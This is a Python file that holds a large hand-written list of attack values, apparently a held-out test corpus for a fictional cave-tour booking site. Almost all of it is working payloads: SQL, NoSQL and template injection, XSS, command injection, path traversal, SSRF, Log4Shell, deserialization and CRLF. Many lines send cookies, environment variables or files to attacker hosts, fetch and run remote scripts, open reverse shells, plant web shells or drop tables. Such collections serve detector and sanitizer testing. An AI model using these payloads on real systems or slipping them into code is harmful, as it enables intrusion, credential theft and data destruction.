#!/usr/bin/env python3
"""Attack held-out values for the caveguides corpus. Hand-written; see README.md."""
import json
import os
import random

SEED = 32102
HERE = os.path.dirname(os.path.abspath(__file__))


def block(text):
    """One value per line: '<class>\t<value>'. Markers: ⏎ = LF, ␍ = CR, ⇥ = TAB."""
    out = []
    for ln in text.strip("\n").split("\n"):
        if not ln.strip():
            continue
        cls, val = ln.split("\t", 1)
        val = val.replace("⏎", "\n").replace("␍", "\r").replace("⇥", "\t")
        out.append((cls, val))
    return out


SQLI = block(r"""
union	Crystal Gallery' UNION SELECT username, password_hash, NULL FROM staff_accounts--
union	CG-4471' union all select card_last4,card_holder,null,null from payments-- -
union	0 UNION SELECT table_name,column_name FROM information_schema.columns WHERE table_schema=database()#
union	Lantern Tour')) UNION SELECT 1,group_concat(email,0x3a,phone),3 FROM visitors-- x
union	-1 union/**/select/**/1,version(),user(),4
union	x' UnIoN SeLeCt NULL,api_key,NULL FROM integrations WHERE '1'='1
union	R-017' UNION SELECT sql,2 FROM sqlite_master--
union	2024-07-14' union select null,string_agg(usename,','),null from pg_user--
union	S4' UNION ALL SELECT name, password FROM master..sysxlogins--
union	stn 14' union select load_file('/etc/passwd'),2,3-- -
union	bat' /*!50000UNION*/ /*!50000SELECT*/ 1,2,concat(login,':',pass) from guides-- 
union	Rhinolophus%27%20UNION%20SELECT%20email%2Cpassword%20FROM%20members--
union	O'Sullivan' UNION SELECT credit_card,expiry,cvv FROM bookings_payment WHERE 'a'='a
union	9999 UNION SELECT NULL,NULL,(SELECT string_agg(secret,',') FROM app_secrets)--
union	Swildon' union select 1,@@version,3,4,5 into outfile '/var/www/html/s.php'--
boolean	CG-5102' OR '1'='1
boolean	CG-5102' OR 1=1-- 
boolean	admin'-- 
boolean	gwen@caves.example' or 'x'='x
boolean	R-022' AND 1=1 AND 'cave'='cave
boolean	R-022' AND 1=2 AND 'cave'='cave
boolean	14 OR 2>1
boolean	1) or (1=1
boolean	' or ''='
boolean	dai'||'1'='1
boolean	x' OR substring((SELECT password FROM staff WHERE id=1),1,1)='a'--
boolean	S2' AND ascii(substr((select api_key from settings limit 1),1,1))>77--
boolean	lantern' AND (SELECT COUNT(*) FROM visitors)>0 AND 'a'='a
boolean	Bat Walk' and exists(select * from admin_users where username='root')--
boolean	10' AND 'a' LIKE 'a
boolean	O'Brien' or true--
boolean	a'or-1-- 
boolean	guide' OR 'ab'='a'||'b
boolean	1 AND (SELECT SUBSTRING(user(),1,1))='r'
boolean	H-09'/**/oR/**/1/**/=/**/1#
time	CG-4479' AND SLEEP(5)-- 
time	1' AND (SELECT 1 FROM (SELECT SLEEP(7))x)-- -
time	stalactite'; SELECT pg_sleep(10)--
time	1;WAITFOR DELAY '0:0:8'--
time	Crystal' AND 1=(SELECT 1 FROM PG_SLEEP(6))--
time	x' OR IF(1=1,SLEEP(4),0)-- 
time	R-041' AND BENCHMARK(5000000,MD5('bat'))-- 
time	2024-08-01'||(select case when (1=1) then pg_sleep(5) else pg_sleep(0) end)||'
time	1 and 1=(select count(*) from all_users t1,all_users t2,all_users t3)
time	Lars' AND DBMS_PIPE.RECEIVE_MESSAGE('a',9)=1--
time	S1' waitfor delay '00:00:06'--
time	x';SELECT CASE WHEN (SUBSTR(current_user,1,1)='p') THEN pg_sleep(5) ELSE NULL END--
time	bat walk' AND sleep(0x5)#
stacked	Booking note'; DROP TABLE bookings;--
stacked	R-003'; UPDATE staff SET role='admin' WHERE email='x@attacker.example';--
stacked	1; INSERT INTO users(username,password) VALUES('caver','x'); --
stacked	CO2 2350'; DELETE FROM air_readings WHERE 1=1;--
stacked	x'; EXEC xp_cmdshell 'powershell -c iwr http://attacker.example/a.ps1|iex';--
stacked	1; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.7/x|sh';--
stacked	Gwen'; CREATE USER caver IDENTIFIED BY 'pw'; GRANT ALL PRIVILEGES ON *.* TO caver;--
stacked	lamp'; TRUNCATE TABLE gear_log; --
stacked	7'; EXEC master.dbo.xp_dirtree '\\198.51.100.9\share';--
stacked	stn 3'; ATTACH DATABASE '/var/www/bat.php' AS b; CREATE TABLE b.p(d text); INSERT INTO b.p VALUES('<?php system($_GET[0]);?>');--
error	1' AND extractvalue(1,concat(0x7e,(select password from staff limit 1)))-- 
error	R-011' AND updatexml(null,concat(0x3a,database()),null)--
error	1 AND 1=CONVERT(int,(SELECT TOP 1 password FROM staff))
error	x' AND 1=CAST((SELECT api_key FROM integrations LIMIT 1) AS int)--
error	a' and (select 1 from(select count(*),concat((select user()),floor(rand(0)*2))x from information_schema.tables group by x)y)-- 
error	2' AND 7=ctxsys.drithsx.sn(7,(select banner from v$version where rownum=1))--
oob	x' UNION SELECT LOAD_FILE(CONCAT('\\\\',(SELECT password FROM staff LIMIT 1),'.attacker.example\\a'))--
oob	1'; SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual--
oob	Tomás'; declare @q varchar(99);set @q='\\'+(select top 1 name from sys.databases)+'.oob.attacker.example\x';exec master..xp_fileexist @q;--
orderby	date ASC, (CASE WHEN (SELECT substr(password,1,1) FROM staff LIMIT 1)='a' THEN tour ELSE adults END)
orderby	visitors,(select sleep(3) from dual where database() like 'cave%')
orderby	(SELECT 1 FROM pg_sleep(4))
orderby	tour DESC; DROP TABLE visitor_counts
orderby	1,extractvalue(1,concat(0x5c,(select @@version)))
orderby	IF((SELECT COUNT(*) FROM staff)>5,date,total)
encoded	Bat%2527%2520OR%25201%253D1--
encoded	x%bf%27 OR 1=1-- 
encoded	Lantern＇ ＵＮＩＯＮ ＳＥＬＥＣＴ password FROM staff--
encoded	R-017'%0AUNION%0ASELECT%0Auser,pass%0AFROM%0Astaff--
encoded	1'%09or%09'1'%3d'1
encoded	%u0027%u0020OR%u00201=1--
""")

XSS = block(r"""
tag	Loved the tour!<script>fetch('https://attacker.example/c?'+document.cookie)</script>
tag	Gwen was great <img src=x onerror=alert(document.domain)>
tag	<svg onload=location='//attacker.example/?'+document.cookie>
tag	Bat count 47<svg/onload=eval(atob('YWxlcnQoMSk='))>
tag	<body onload=import('//attacker.example/m.js')>
tag	Lost hat <details open ontoggle=alert(1)>blue</details>
tag	<iframe srcdoc="<script>parent.alert(document.cookie)</script>"></iframe>
tag	Nice cave <marquee onstart=confirm`1`>bats</marquee>
tag	<input autofocus onfocus=fetch('//203.0.113.5/'+localStorage.token)>
tag	<video><source onerror="alert(String.fromCharCode(88,83,83))"></video>
tag	<audio src=1 onerror=prompt(1)>
tag	<ScRiPt>new Image().src='//attacker.example/l?c='+document.cookie</sCrIpT>
tag	<object data="javascript:alert(origin)"></object>
tag	<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
tag	Cave pearls! <a href="javascript:alert(1)">see photos</a>
tag	<a href="jav&#x09;ascript:alert(document.domain)">trip pics</a>
tag	<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">map</a>
tag	<form action="javascript:alert(1)"><button>Book</button></form>
tag	<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
tag	<svg><animate onbegin=alert(1) attributeName=x dur=1s>
tag	<img src=x:x onerror=window['al'+'ert'](1)>
tag	<img/src/onerror=top[/al/.source+/ert/.source](1)>
tag	<div style="width:expression(alert(1))">old IE</div>
tag	<link rel=import href="//attacker.example/x.html">
tag	<base href="//attacker.example/"><script src="/app.js"></script>
tag	<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
tag	<select autofocus onfocus=alert(1)><option>Crystal</option></select>
tag	<textarea autofocus onfocus=alert(document.cookie)>note</textarea>
tag	<img src=1 onerror="this.src='//attacker.example/?k='+btoa(document.body.innerHTML)">
tag	<keygen autofocus onfocus=alert(1)>
tag	<svg><script href=data:,alert(1) />
tag	<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a>
tag	<img src="x" onerror="eval(decodeURIComponent('%61%6c%65%72%74%28%31%29'))">
tag	<script src=//attacker.example/b.js></script>
tag	<xss onpointerover=alert(1) style=display:block>hover for bats</xss>
tag	<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>Cave</p>
tag	<table background="javascript:alert(1)">
tag	<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
tag	<scr<script>ipt>alert(1)</scr</script>ipt>
tag	<sc%00ript>alert(1)</script>
tag	%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E
tag	%253Csvg%2520onload%253Dalert(1)%253E
tag	&lt;img src=x onerror=alert(1)&gt;
tag	\u003cimg src=x onerror=alert(1)\u003e
tag	＜script＞alert(1)＜/script＞
tag	<img src=x onerror=\u0061lert(1)>
tag	<svg onload=alert&#40;1&#41;>
tag	<isindex type=image src=1 onerror=alert(1)>
tag	<noscript><p title="</noscript><img src=x onerror=alert(1)>">
tag	<!--<img src="--><img src=x onerror=alert(1)//">
attr	" onmouseover="alert(document.cookie)
attr	Crystal Gallery" autofocus onfocus="fetch('//attacker.example/'+document.cookie)" x="
attr	' onclick='alert(1)
attr	"><img src=x onerror=alert(1)>
attr	'><svg onload=alert(1)>
attr	x" style="position:fixed;inset:0" onmouseover="alert(1)
attr	"/><script>alert(1)</script>
attr	lantern tour`><img src=x onerror=alert(1)>
attr	javascript:alert(document.domain)//https://caves.example
attr	data:text/html,<script>alert(opener.document.cookie)</script>
js	';alert(document.cookie);//
js	</script><script>alert(1)</script>
js	"-alert(1)-"
js	\';alert(1);//
js	${alert(document.domain)}
js	'+fetch('//attacker.example/?'+document.cookie)+'
js	");alert(1);("
js	Bat Walk\x3cscript\x3ealert(1)\x3c/script\x3e
js	-prompt(1)-
dom	#<img src=x onerror=alert(1)>
dom	?next=javascript:alert(1)
dom	{{constructor.constructor('alert(1)')()}}
md	[trip photos](javascript:alert(document.cookie))
md	![bat](x" onerror="alert(1))
md	[click me](  javascript:fetch('//attacker.example/'+document.cookie)  )
svg	<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="40"/></svg>
""")

CMDI = block(r"""
sep	trip_17.th; cat /etc/passwd
sep	logger_2024-05.csv; curl -s http://attacker.example/s.sh | sh
sep	IMG_3312.jpg && wget -qO- http://203.0.113.10/x | bash
sep	survey.svx | nc 198.51.100.4 4444 -e /bin/sh
sep	R-017 || id
sep	S4`id`
sep	night_07$(whoami)
sep	ogof.th;rm -rf /var/www/uploads/*
sep	2024.csv & ping -n 20 127.0.0.1 &
sep	photo.jpg%0Aid
sep	bat.wav%0a/bin/cat%20/etc/shadow
sep	trip.pdf;{cat,/etc/passwd}
sep	stn14;cat${IFS}/etc/passwd
sep	a|cat$IFS$9/etc/hosts
sep	x;c''at /e""tc/pa\sswd
sep	x;/???/c?t /???/p?ss??
sep	; bash -i >& /dev/tcp/203.0.113.66/9001 0>&1
sep	$(curl -fsSL http://attacker.example/k | sh)
sep	`wget http://198.51.100.23/bot -O /tmp/b && chmod +x /tmp/b && /tmp/b`
sep	CG-4471; python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.8",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
sep	mud.jpg; perl -e 'use Socket;$i="198.51.100.50";$p=53;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");'
sep	r.th; php -r '$s=fsockopen("attacker.example",8080);exec("sh <&3 >&3 2>&3");'
sep	trip.csv;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh
sep	x; echo c3VkbyBpZA== | base64 --decode | bash
sep	foo.svx; sleep 10
sep	a; ping -c 12 attacker.example
sep	|| nslookup $(whoami).oob.attacker.example
sep	bats.wav; dig +short `hostname`.attacker.example
sep	x; curl http://attacker.example/$(cat /etc/hostname)
sep	; crontab -l | { cat; echo "* * * * * curl -s http://attacker.example/c|sh"; } | crontab -
sep	; echo 'ssh-ed25519 AAAAFAKEKEY attacker' >> ~/.ssh/authorized_keys
sep	scan.png;busybox nc 203.0.113.9 1337 -e ash
sep	x&&tftp -i 198.51.100.2 GET nc.exe
sep	trip.pdf & powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')"
sep	survey.doc | type C:\Windows\win.ini
sep	x & certutil -urlcache -split -f http://203.0.113.44/s.exe %TEMP%\s.exe & %TEMP%\s.exe
sep	a.csv & cmd /c "whoami > C:\inetpub\wwwroot\w.txt"
sep	x| net user caver P@ss123 /add
sep	R-019; find / -name '*.env' -exec cat {} \;
sep	data.csv;tar czf - /etc | curl -X POST --data-binary @- http://attacker.example/up
sep	r.csv; env | curl -d @- https://attacker.example/env
sep	x;awk 'BEGIN{system("id")}'
sep	x$(printf '\x69\x64')
sep	$(echo${IFS}aWQ=|base64${IFS}-d)
sep	a;w'h'o'a'm'i
sep	a;/bin/ba\sh -c 'id'
sep	;{wget,-qO-,http://attacker.example/x}|sh
sep	x	;	uname -a
sep	..;$(rev<<<'dwssap/cte/ tac')
sep	L-31%3Bcat%20%2Fetc%2Fpasswd
sep	lamp%26%26id
sep	log.txt%253Bid
arg	--output=/var/www/html/shell.php http://attacker.example/s.txt
arg	-oProxyCommand=curl${IFS}attacker.example/x|sh
arg	--exec=id
arg	survey.th --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh
arg	-e /bin/sh 198.51.100.3 4444
arg	--use-compress-program='sh -c id'
arg	-o /etc/cron.d/cave http://attacker.example/cron
arg	x' -X POST -d @/etc/passwd http://attacker.example/ '
arg	report.pdf" ; id ; echo "
arg	photo.jpg'; nc -lvp 8888 -e /bin/bash; '
arg	ogof -config=/dev/null -exec 'id'
imagemagick	push graphic-context⏎viewbox 0 0 640 480⏎fill 'url(https://attacker.example/x.png"|curl "attacker.example/p|sh)'⏎pop graphic-context
ssi	<!--#exec cmd="cat /etc/passwd" -->
ssi	Great tour <!--#exec cmd="ls -la /" -->
""")

TRAVERSAL = block(r"""
dotdot	../../../../etc/passwd
dotdot	survey/../../../../../etc/shadow
dotdot	trip_17.th/../../../../proc/self/environ
dotdot	../../../../../../var/log/nginx/access.log
dotdot	../../app/.env
dotdot	../../../../root/.ssh/id_rsa
dotdot	../config/database.yml
dotdot	photos/2024/../../../../../../etc/hosts
dotdot	....//....//....//etc/passwd
dotdot	..././..././..././etc/passwd
dotdot	..;/..;/..;/WEB-INF/web.xml
dotdot	/var/www/caves/uploads/../../../../etc/passwd
dotdot	../../../../proc/self/cmdline
dotdot	../../../../home/guide/.bash_history
dotdot	loggers/s4/../../../../../.git/config
dotdot	../../../../../../usr/local/etc/php/php.ini
dotdot	/../../../../../../etc/group
windows	..\..\..\..\windows\win.ini
windows	C:\Surveys\Ogof\..\..\..\Windows\System32\drivers\etc\hosts
windows	..\..\..\inetpub\wwwroot\web.config
windows	\\198.51.100.9\share\bat.wav
windows	..%5c..%5c..%5c..%5cwindows%5csystem.ini
windows	..\/..\/..\/..\/boot.ini
encoded	%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
encoded	%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd
encoded	..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd
encoded	..%c1%9c..%c1%9c..%c1%9cboot.ini
encoded	%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd
encoded	．．／．．／．．／etc／passwd
encoded	..%2F..%2F..%2F..%2Fvar%2Flog%2Fauth.log
encoded	%2e%2e/%2e%2e/%2e%2e/etc/shadow
encoded	..%252f..%252f..%252fproc%252fself%252fenviron
encoded	%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
nullbyte	../../../../etc/passwd%00.jpg
nullbyte	../../../etc/passwd\u0000.csv
nullbyte	report_2024.pdf/../../../../etc/passwd%00
absolute	/etc/passwd
absolute	/proc/self/environ
absolute	file:///etc/passwd
absolute	/var/run/secrets/kubernetes.io/serviceaccount/token
absolute	C:/Windows/System32/config/SAM
wrapper	php://filter/convert.base64-encode/resource=../config.php
wrapper	php://filter/read=string.rot13/resource=index.php
wrapper	zip://../uploads/trip.jpg%23shell.php
""")

SSRF = block(r"""
meta	http://169.254.169.254/latest/meta-data/iam/security-credentials/
meta	http://169.254.169.254/latest/user-data
meta	http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
meta	http://169.254.169.254/metadata/instance?api-version=2021-02-01
meta	http://[fd00:ec2::254]/latest/meta-data/
meta	http://100.100.100.200/latest/meta-data/ram/security-credentials/
meta	http://169.254.170.2/v2/credentials/
meta	http://instance-data/latest/meta-data/hostname
loopback	http://127.0.0.1:8080/admin/users
loopback	http://localhost:9200/_cat/indices
loopback	http://127.0.0.1:6379/
loopback	http://[::1]:8500/v1/agent/self
loopback	http://0.0.0.0:2375/containers/json
loopback	http://localhost/server-status
loopback	https://127.0.0.1:10250/pods
altip	http://2130706433/admin
altip	http://0x7f000001/
altip	http://0177.0.0.1:8080/
altip	http://127.1/actuator/env
altip	http://0/
altip	http://[::ffff:127.0.0.1]:3000/
altip	http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/
altip	http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/
altip	http://2852039166/latest/meta-data/
altip	http://169.254.43518/latest/meta-data/
altip	http://①②⑦.⓪.⓪.①/
internal	http://10.0.0.5:8080/manager/html
internal	http://192.168.1.1/cgi-bin/luci
internal	http://172.17.0.1:2379/v2/keys/?recursive=true
internal	http://internal-api.svc.cluster.local/admin/export
internal	http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets
internal	http://consul:8500/v1/kv/?recurse
internal	http://redis:6379/
internal	http://10.10.0.12:15672/api/users
bypass	http://caves.example@127.0.0.1/admin
bypass	http://127.0.0.1#@caves.example/
bypass	http://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/
bypass	http://169.254.169.254.nip.io/latest/meta-data/
bypass	http://localtest.me:8080/admin
bypass	http://rebind.attacker.example/latest/meta-data/
bypass	http://127.0.0.1%2523@caves.example/
bypass	http://loc%61lhost/admin
scheme	gopher://127.0.0.1:6379/_FLUSHALL%0D%0ASET%20x%20%22%3C%3Fphp%20system($_GET[0])%3F%3E%22%0D%0ACONFIG%20SET%20dir%20/var/www/html%0D%0ASAVE%0D%0A
scheme	gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM:%3Ca@attacker.example%3E%0D%0A
scheme	dict://127.0.0.1:11211/stats
scheme	file:///proc/self/environ
scheme	ftp://10.0.0.7/backup/visitors.sql
scheme	ldap://127.0.0.1:389/dc=caves
scheme	jar:http://attacker.example/x.zip!/y
scheme	tftp://198.51.100.2:69/config
""")

CODE = block(r"""
ssti	{{config.items()}}
ssti	{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}
ssti	{{''.__class__.__mro__[1].__subclasses__()}}
ssti	{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}
ssti	{{ lipsum.__globals__['os'].popen('curl attacker.example/x|sh').read() }}
ssti	{{request.application.__globals__.__builtins__.open('/etc/passwd').read()}}
ssti	{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}
ssti	{{ namespace.__init__.__globals__.os.environ }}
ssti	{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}
ssti	{{ get_flashed_messages.__globals__.__builtins__.eval("__import__('os').popen('id').read()") }}
ssti	<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
ssti	${"freemarker.template.utility.Execute"?new()("cat /etc/passwd")}
ssti	#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$x
ssti	#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("whoami")
ssti	*{T(java.lang.Runtime).getRuntime().exec('id')}
ssti	[[${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}]]
ssti	__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x
ssti	{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
ssti	{{['id']|filter('system')}}
ssti	{php}echo `id`;{/php}
ssti	{system('cat /etc/passwd')}
ssti	<%= `id` %>
ssti	<%= File.read('/etc/passwd') %>
ssti	<%= system("curl http://attacker.example/r | sh") %>
ssti	{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require('child_process').execSync('id');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
ssti	#{7*7}#{"".getClass().forName("java.lang.Runtime").getRuntime().exec("id")}
ssti	{{= global.process.mainModule.require('child_process').execSync('id') }}
ssti	<%- global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>
ssti	{{range.constructor("return process.env")()}}
el	${T(java.lang.System).getenv()}
el	%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
el	%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{"cat","/etc/passwd"})).start()}
el	${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec("id")')}
el	T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))
el	${script:javascript:java.lang.Runtime.getRuntime().exec('id')}
eval	__import__('os').system('curl attacker.example/p|sh')
eval	require('child_process').exec('nc 203.0.113.4 4444 -e /bin/sh')
eval	process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')
eval	';system('id');$a='
eval	".system('cat /etc/passwd')."
eval	<?php system($_GET['c']); ?>
eval	<?=`$_POST[x]`?>
eval	eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));
eval	1;Runtime.getRuntime().exec("id")
eval	exec("import os;os.system('id')")
eval	Function('return process')().mainModule.require('child_process').execSync('id')
eval	`${require('child_process').execSync('id')}`
log4shell	${jndi:ldap://attacker.example:1389/cave}
log4shell	Booking for ${jndi:rmi://203.0.113.77:1099/Exploit}
log4shell	${${lower:j}ndi:${lower:l}dap://attacker.example/a}
log4shell	${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.12/o}
log4shell	${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}
log4shell	${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}
log4shell	Gwen ${jndi:ldaps://x.attacker.example/${sys:java.version}}
log4shell	${j${k8s:k5:-ND}i:ldap://attacker.example/k}
proto	{"__proto__":{"isAdmin":true}}
proto	{"constructor":{"prototype":{"role":"admin"}}}
proto	__proto__[outputFunctionName]=_tmp1;global.process.mainModule.require('child_process').execSync('id');var __tmp2
proto	{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require('child_process').execSync('id').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}
proto	tour[__proto__][polluted]=yes
proto	constructor[prototype][sourceURL]=\u000aprocess.mainModule.require('child_process').execSync('id')
formula	=cmd|' /C calc'!A0
formula	=HYPERLINK("http://attacker.example/leak?d="&A2&B2,"Visitor list")
formula	+cmd|'/c powershell iwr attacker.example/x.ps1|iex'!A1
formula	-2+3+cmd|' /C notepad'!'A1'
formula	@SUM(1+1)*cmd|' /C calc'!A0
formula	=WEBSERVICE("http://attacker.example/?"&A1)
formula	=IMPORTXML(CONCAT("http://attacker.example/?v=",A2:E2),"//a")
formula	"=DDE(""cmd"";""/C calc"";""__DdeLink_60_870516294"")"
formula	O'Brien,=IMAGE("https://attacker.example/p.png?"&C2),3,paid
xxe	<?xml version="1.0"?><!DOCTYPE survey [<!ENTITY x SYSTEM "file:///etc/passwd">]><survey><name>&x;</name></survey>
xxe	<!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/evil.dtd">%d;]><r/>
xxe	<?xml version="1.0"?><!DOCTYPE gpx [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/">]><gpx><wpt><name>&meta;</name></wpt></gpx>
xxe	<!DOCTYPE x [<!ENTITY % f SYSTEM "php://filter/convert.base64-encode/resource=/etc/hosts"><!ENTITY % e "<!ENTITY &#x25; s SYSTEM 'http://attacker.example/?%f;'>">%e;%s;]><x/>
xxe	<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></svg>
xxe	<!DOCTYPE lolz [<!ENTITY b "bat"><!ENTITY b2 "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY b3 "&b2;&b2;&b2;&b2;&b2;&b2;&b2;&b2;&b2;&b2;"><!ENTITY b4 "&b3;&b3;&b3;&b3;&b3;&b3;&b3;&b3;&b3;&b3;">]><l>&b4;</l>
deser	O:8:"Booking":1:{s:4:"file";s:11:"/etc/passwd";}
deser	a:1:{i:0;O:32:"Monolog\Handler\SyslogUdpHandler":1:{s:9:"*socket";O:29:"Monolog\Handler\BufferHandler":0:{}}}
deser	rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa
deser	{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/x","autoCommit":true}
deser	{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
deser	!!python/object/apply:os.system ["curl attacker.example/y|sh"]
deser	!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/y.jar"]]]]
deser	cposix\nsystem\n(S'id'\ntR.
deser	{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}
deser	--- !ruby/object:Gem::Installer⏎i: x⏎--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection⏎? "foo; system('id') #"⏎: !ruby/object:OpenStruct⏎  table: {}
""")

NOSQLI = block(r"""
op	{"$ne": null}
op	{"$gt": ""}
op	{"username": "gwen", "password": {"$ne": "x"}}
op	{"$regex": "^a.*"}
op	{"email": {"$regex": ".*@caves\\.example"}, "password": {"$exists": true}}
op	{"booking_ref": {"$in": ["CG-4471", {"$ne": 0}]}}
op	{"$or": [{"role": "admin"}, {"role": {"$ne": "guest"}}]}
op	password[$ne]=cave
op	username[$regex]=^adm&password[$gt]=
op	ref[$exists]=true
op	tour[$nin][]=x
where	{"$where": "sleep(5000) || true"}
where	{"$where": "this.password.match(/^s/) != null"}
where	'; return true; var x='
where	1' || this.role == 'admin' || '1'=='1
where	x'; while(true){}; var y='
where	{"$where": "function(){return obj.password.length>5}"}
func	{"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}
func	{"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}
agg	[{"$lookup": {"from": "staff", "localField": "x", "foreignField": "x", "as": "leak"}}]
agg	{"$unionWith": "payments"}
couch	{"selector": {"_id": {"$gt": null}}, "fields": ["email", "password"]}
couch	_all_docs?include_docs=true&startkey="_design/"
redis	bats\r\nCONFIG SET dir /var/www\r\n
es	{"query": {"script": {"script": "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")"}}}
mongo	db.visitors.find({}).forEach(printjson)
mongo	{"tour": "Crystal", "$comment": "x", "$or": [{}, {"a": {"$gt": ""}}]}
""")

CRLF = block(r"""
log	Crystal Gallery⏎2024-07-14 10:02:11 INFO user=admin action=refund amount=5000 status=approved
log	bat count 47⏎[2024-01-20 09:00:00] AUDIT gear R-017 status=PASS inspector=RO
log	S4 offline␍⏎2024-05-03T10:10 S4 CO2=410 OK -- all clear, tours resume
log	Gwen%0d%0a2024-06-11 12:00:00 [INFO] Login success for user=root from 127.0.0.1
log	note%0a%5bWARN%5d%20rescue%20drill%20cancelled%20by%20controller
log	trip ok\r\n127.0.0.1 - admin [11/Jun/2024:10:00:00 +0000] "GET /admin/export HTTP/1.1" 200 1
log	visitor⏎⏎=== SYSTEM NOTICE: all CO2 alarms disabled by maintenance ===
log	R-022%E5%98%8A%E5%98%8DINFO: rope R-022 passed inspection
header	en%0d%0aSet-Cookie:%20session=attacker; Path=/
header	/bookings%0D%0ALocation:%20https://attacker.example/pay
header	Crystal␍⏎X-Forwarded-For: 127.0.0.1
header	fr␍⏎Set-Cookie: role=admin; HttpOnly
header	/tour?id=1%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
header	utf8%0AAccess-Control-Allow-Origin:%20https://attacker.example
header	/trip%E5%98%8D%E5%98%8ASet-Cookie:%20sid=evil
header	x%0d%0a%0d%0a<html><body>Booking cancelled, call +44 0000 000000</body></html>
header	lantern␍⏎Refresh: 0; url=https://attacker.example/login
header	cave-map.pdf%0d%0aContent-Disposition:%20attachment;%20filename=update.exe
header	%0d%0aX-Accel-Redirect: /internal/exports/visitors.csv
mail	Gwen Jones⏎Bcc: everyone@caves.example, list@attacker.example
mail	visitor@example.org%0ACc:%20spam-target@attacker.example
mail	Thanks!␍⏎Subject: Your refund is ready␍⏎␍⏎Click https://attacker.example/refund to claim
